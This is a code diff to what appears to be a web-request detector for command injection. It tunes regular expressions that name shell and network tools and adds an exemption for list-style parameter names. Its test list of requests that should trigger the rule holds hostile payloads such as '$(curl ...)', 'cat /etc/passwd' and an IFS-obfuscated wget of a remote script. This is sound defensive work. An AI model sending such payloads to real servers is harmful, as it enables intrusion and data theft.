@@ -17,26 +17,39 @@ const ARGUMENT = '(?:-{1,2}[\\w?]|[/~.\\\\][\\w./\\\\*-]|\\w+://|[\\w-]+\\.(?:\\
 
 const CHAINED = new RegExp(`${META}${GAP}${PATH}(?:${WITH_ARGUMENT})${BREAK}${ARGUMENT}`)
 const CHAINED_ALONE = new RegExp(`${META}${GAP}${PATH}(?:${ALONE})(?=$|[\\s;|&\`)'"#+])`)
-const BY_PATH = /(?:^|[;|&`(\s'"=])\/?(?:usr\/(?:local\/)?)?s?bin\/(?:id|ls|ps|cat|sh|bash|dash|zsh|ksh|nc|ncat|wget|curl|ping|sleep|uname|whoami|perl|python[23]?|netstat|ifconfig|env|chmod|rm|touch|echo|telnet|tftp|busybox)(?=$|[\s;|&`)'"+$<>])/
+const BY_PATH = /(?:^|[;|&`(\s'"=$])\/?(?:usr\/(?:local\/)?)?s?bin\/(?:id|ls|ps|cat|sh|bash|dash|zsh|ksh|nc|ncat|wget|curl|ping|sleep|uname|whoami|perl|python[23]?|netstat|ifconfig|env|chmod|rm|touch|echo|telnet|tftp|busybox)(?=$|[\s;|&`)'"+$<>])/
 /** `;id`, `|id|`, `a);id`, `` `id` ``: nothing but the command between its signs. */
-const BARE = new RegExp(`^[\\s'"]*(?:;|\\|\\|?|&&?|\\n)\\s*(?:${SHORT})\\s*(?:[;|&#].*)?$|^[\\w./'" -]{0,40}(?:\\)\\s*(?:;|\\|\\|?|&&?)|\\n)\\s*(?:${SHORT})\\s*[;|&#]?\\s*$|^[\\w./-]{0,40}(?:;|\\|\\|?)(?:${SHORT})(?:;|\\|)\\s*$|^(?:${SHORT})\\s*\\|\\s*$`)
+const BARE = new RegExp(
+  [
+    `^[\\s'"]*[;|&\\n]+\\s*(?:${SHORT})\\s*(?:[;|&#\\n].*)?$`,
+    `^[\\w./'" -]{0,40}(?:\\)\\s*(?:;|\\|\\|?|&&?)|\\n)\\s*(?:${SHORT})\\s*[;|&#\\n]?\\s*$`,
+    `^[\\w./-]{0,40}(?:;|\\|\\|?)(?:${SHORT})(?:;|\\|)\\s*$`,
+    `^(?:${SHORT})\\s*[;|]\\s*$`,
+  ].join('|'),
+  's',
+)
 const SUBSTITUTION = new RegExp(`(?:^|[^\\s\\w])\\s*(?:\`\\s*${PATH}(?:${ALONE}|${SHORT}|${WITH_ARGUMENT})(?:\\s+[^\`]{0,200})?\`|\\$\\(\\s*${PATH}(?:${ALONE}|${SHORT}|${WITH_ARGUMENT})(?:[\\s<+$][^)]{0,200})?\\))|^\\w{1,12}\`${PATH}(?:${ALONE}|id)\``)
 const INTERNAL_SEPARATOR = /\$\{?ifs\}?/
 const DOWNLOAD = /(?:^|[;|&`(\s+])(?:wget|curl|tftp|ftpget)(?:\s|\+)+(?:-\S+(?:\s|\+)+){0,4}(?:https?|t?ftp):\/\/\S+\s*(?:[;|&>]|-o)|(?:\||;)\s*(?:ba|z|da|k)?sh(?:\s*$|\s*[;&`)|])/
-const INTERPRETER = /[;'"`(){}]\s*(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|eval)\s*\(|^\s*(?:system|exec|passthru|shell_exec|popen|proc_open|eval|phpinfo)\s*\(.{0,200}\)\s*;?\s*$|<\?(?:php\b|=)|__import__\s*\(|<!--\s*#\s*(?:exec|include)\b|\bos\.(?:system|popen)\s*\(|cmd(?:\.exe)?\s*\/c\s+\w|powershell(?:\.exe)?\s+-(?:e|enc|nop|w|c|ep|ex)\w*\s/
+const INTERPRETER = /[;'"`(){}]\s*(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|phpinfo)\s*\(|;\s*eval\s*\(|^\s*(?:system|exec|passthru|shell_exec|popen|proc_open|eval|phpinfo)\s*\(.{0,200}\)\s*;?\s*$|<\?\s*(?:php\b|=|echo\b|system\b|exec\b)|__import__\s*\(|<!--\s*#\s*(?:exec|include)\b|\bos\.(?:system|popen)\s*\(|cmd(?:\.exe)?\s*\/c\s+\w|powershell(?:\.exe)?\s+-(?:e|enc|nop|w|c|ep|ex)\w*\s/
 const READ = /^\s*(?:cat|type|more|less|head|tail)\s+(?:\/etc\/|\/proc\/|c:\\)|>\s*\/dev\/(?:null|tcp\/)|\/dev\/tcp\/\d/
+/** `a|id`: a command, or two names of a list. The parameter's name tells which. */
+const PAIR = /^\w{1,20}(?:;|\|\|?)(?:id|ls|ps|pwd)$/
+const LISTS = /^(?:fields?|sort\w*|order\w*|col(?:umn)?s?|select|include|exclude|expand|tags?|filters?|keys?|attr(?:ibute)?s?|prop(?:erties|s)?|groups?|by|types?|cat(?:egory|egories)?|format|q|query|search|s)(?:\[\])?$/
 /** dir lists a Windows drive. */
 const WINDOWS = /(?:^|[|&;+]\s*)\+?\s*dir[\s+]+[a-z]:/
 
 const LONGEST = 8192
 
-function isCommand(lower: string, path: boolean): boolean {
-  const text = lower.length > LONGEST ? lower.slice(0, LONGEST) : lower
+function isCommand(lower: string, path: boolean, name: string): boolean {
+  const cut = lower.length > LONGEST ? lower.slice(0, LONGEST) : lower
+  // Apache logs a line break as \n; so does a program that was careless with its list of attacks.
+  const text = cut.replace(/\\[nr](?=$|[\s;|&/]|(?:id|ls|cat|wget|curl|ping)\b)/g, '\n')
   if (!/[;|&`$\n\r(<>+/]/.test(text)) return READ.test(text)
   if (CHAINED.test(text) || CHAINED_ALONE.test(text) || SUBSTITUTION.test(text) || INTERPRETER.test(text) || DOWNLOAD.test(text)) return true
   if (INTERNAL_SEPARATOR.test(text) || READ.test(text)) return true
   // A path may well be /usr/bin/env on a server of documentation, and a matrix parameter /a;id is none of ours.
-  return !path && (BY_PATH.test(text) || BARE.test(text) || WINDOWS.test(text))
+  return !path && (BY_PATH.test(text) || BARE.test(text) || WINDOWS.test(text) || (PAIR.test(text) && !LISTS.test(name)))
 }
 
 export const commandInjection = definePayload({
@@ -45,7 +58,7 @@ export const commandInjection = definePayload({
   severity: 'critical',
   exploit: true,
   technique: 'T1059',
-  value: value => value.place !== 'header' && isCommand(value.lower, value.place === 'path'),
+  value: value => value.place !== 'header' && isCommand(value.lower, value.place === 'path', value.name),
   fires: [
     'GET /ping?host=127.0.0.1;cat+/etc/passwd', 'GET /a?x=1|whoami', 'GET /a?x=$(curl+http://203.0.113.9/a)', 'GET /a?x=%60id%60', 'GET /a?x=;id',
     'GET /a?x=|id|', 'GET /a?x=a%26%26wget+http://203.0.113.9/x.sh', 'GET /a?c=1;wget${IFS}http://203.0.113.9/m', 'GET /a?c=%0a/usr/bin/id',
